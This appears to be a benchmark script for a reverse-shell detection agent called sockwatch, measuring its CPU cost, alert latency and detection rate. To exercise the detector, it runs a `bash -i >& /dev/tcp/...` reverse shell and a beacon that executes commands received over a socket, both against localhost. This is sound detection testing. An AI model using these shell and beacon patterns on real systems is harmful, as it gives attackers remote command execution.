#!/usr/bin/env python3
"""What `[agent] exec_checks` costs and buys, on a host state from bench/load.py.

Cost: agent CPU with exec checks off and on, alternating, while a service (stdio on /dev/null)
executes a program 20 times a second with a pipe as its stdout (so that every exec gets a full
look: the process, its ancestors and what its pipe leads to), the kind of steady exec traffic
cron jobs and monitoring probes make. The per-exec cost is the heartbeat's `look_us` over its looks.

Latency: a one-shot reverse shell (`bash -i >& /dev/tcp/… 0>&1`, killed after 300 ms) started
every second under `--interval 5s`; the time from just before its exec to its incident_opened
line in the file sink.

Reach: beacons (connect, run one command with `sh -c`, send its output, exit) under
`--interval 5s`, with a command that runs a program (`uname -a; echo …`) and with one that runs
only shell builtins (`echo …`, a `sh -c` that exits within a millisecond of its exec): the share
of them alerted.

Usage: bench/exec_checks.py [--window 20] [--rounds 2] [--shells 20] [--binary PATH] [P/S]
(default 500/5000, target/release/sockwatch built first)
"""
import argparse
import json
import os
import socket
import statistics
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
SOCKWATCH = os.path.join(os.path.dirname(HERE), "target", "release", "sockwatch")
TICKS = os.sysconf("SC_CLK_TCK")


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / TICKS


def start_agent(checks, scratch, interval="1s"):
    config = os.path.join(scratch, "sockwatch.toml")
    events = os.path.join(scratch, f"events-{checks}-{time.monotonic_ns()}.ndjson")
    with open(config, "w") as f:
        f.write(f'[agent]\nexec_checks = {checks}\nheartbeat = "1s"\n'
                f'state_dir = "{scratch}/state"\ninterval = "{interval}"\n'
                f'[[sinks]]\ntype = "file"\npath = "{events}"\n')
    agent = subprocess.Popen([SOCKWATCH, "run", "--config", config, "--no-baseline"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return agent, events


def last_heartbeat(events):
    beat = None
    with open(events) as f:
        for line in f:
            if '"heartbeat"' in line:
                beat = json.loads(line)
    return beat


def agent_cpu(checks, window, scratch):
    agent, events = start_agent(checks, scratch)
    try:
        time.sleep(5)
        before, started = cpu_seconds(agent.pid), time.monotonic()
        looks_before = looks(last_heartbeat(events))
        time.sleep(window)
        cpu = 100 * (cpu_seconds(agent.pid) - before) / (time.monotonic() - started)
        looks_after = looks(last_heartbeat(events))
        return cpu, (looks_after[0] - looks_before[0], looks_after[1] - looks_before[1])
    finally:
        agent.terminate()
        agent.wait()


def looks(beat):
    checks = (beat or {}).get("sockwatch", {}).get("exec_checks", {})
    return checks.get("looks", 0) + checks.get("quiet", 0), checks.get("look_us", 0)


# 20 execs a second, each with a pipe as stdout, from a process whose own stdio is /dev/null, as a
# service's is (run from a terminal, the looks would also follow the terminal's pipes).
EXECS = """
import subprocess, time
while True:
    subprocess.run(["/bin/true"], stdout=subprocess.PIPE)
    time.sleep(0.05)
"""


def one_shot_latencies(shells, scratch):
    agent, events = start_agent("true", scratch, interval="5s")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    port = server.getsockname()[1]
    latencies = []
    try:
        time.sleep(3)
        for _ in range(shells):
            offset = os.path.getsize(events)
            began = time.monotonic()
            shell = subprocess.Popen(
                ["bash", "-c", f"(sleep 0.3; kill -9 $$) & exec bash --norc --noprofile -i "
                               f">& /dev/tcp/127.0.0.1/{port} 0>&1"],
                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            conn, _ = server.accept()
            while time.monotonic() - began < 2:
                with open(events) as f:
                    f.seek(offset)
                    text = f.read()
                if '"incident_opened"' in text and f'"port":{port}' in text:
                    latencies.append((time.monotonic() - began) * 1000)
                    break
                time.sleep(0.0005)
            else:
                latencies.append(float("inf"))
            shell.wait()
            conn.close()
            time.sleep(1)
    finally:
        agent.terminate()
        agent.wait()
        server.close()
    return latencies


BEACON = """
import socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1]))); command = s.recv(4096)
s.sendall(subprocess.run(command, shell=True, stdout=subprocess.PIPE).stdout); s.close()
"""


def beacon_reach(command, beacons, scratch):
    """How many of `beacons` one-command beacons running `command` are alerted."""
    agent, events = start_agent("true", scratch, interval="5s")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    port = server.getsockname()[1]
    try:
        time.sleep(3)
        for _ in range(beacons):
            beacon = subprocess.Popen([sys.executable, "-c", BEACON, str(port)],
                                      stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
            conn, _ = server.accept()
            conn.sendall(command.encode() + b"\n")
            conn.recv(4096)
            conn.close()
            beacon.wait()
            time.sleep(0.2)
        time.sleep(1)
        with open(events) as f:
            return sum(1 for line in f if '"incident_opened"' in line and f'"port":{port}' in line)
    finally:
        agent.terminate()
        agent.wait()
        server.close()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--window", type=float, default=20)
    parser.add_argument("--rounds", type=int, default=2)
    parser.add_argument("--shells", type=int, default=20)
    parser.add_argument("size", nargs="?", default="500/5000")
    parser.add_argument("--binary", help="a sockwatch binary (default: build the release one)")
    args = parser.parse_args()
    global SOCKWATCH
    if args.binary:
        SOCKWATCH = os.path.abspath(args.binary)
    else:
        subprocess.run(["cargo", "build", "--release", "-q"], check=True,
                       cwd=os.path.dirname(HERE))
    processes, sockets = args.size.split("/")
    load = subprocess.Popen([sys.executable, os.path.join(HERE, "load.py"), "-P", processes,
                             "-S", sockets], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            text=True)
    execs = None
    try:
        print("load:", load.stdout.readline().strip(), flush=True)
        time.sleep(5)
        with tempfile.TemporaryDirectory() as scratch:
            latencies = one_shot_latencies(args.shells, scratch)
            print(f"one-shot shell, exec to incident_opened (ms, {len(latencies)} shells): "
                  f"median {statistics.median(latencies):.1f}, max {max(latencies):.1f}",
                  flush=True)
            for command in ["uname -a; echo done", "echo done"]:
                caught = beacon_reach(command, args.shells, scratch)
                print(f"beacons running {command!r}: {caught} of {args.shells} alerted",
                      flush=True)
            execs = subprocess.Popen([sys.executable, "-c", EXECS], stdin=subprocess.DEVNULL,
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            results = {"false": [], "true": []}
            for _ in range(args.rounds):
                for checks in results:
                    results[checks].append(agent_cpu(checks, args.window, scratch))
        for checks, figures in results.items():
            print(f"exec_checks = {checks}: agent CPU % "
                  + ", ".join(f"{cpu:.1f}" for cpu, _ in figures), flush=True)
        counted = [(n, us) for _, (n, us) in results["true"] if n]
        if counted:
            print("per exec: " + ", ".join(f"{us / n:.0f} us ({n} execs)" for n, us in counted))
    finally:
        if execs:
            execs.kill()
            execs.wait()
        load.stdin.close()
        load.wait()


if __name__ == "__main__":
    main()
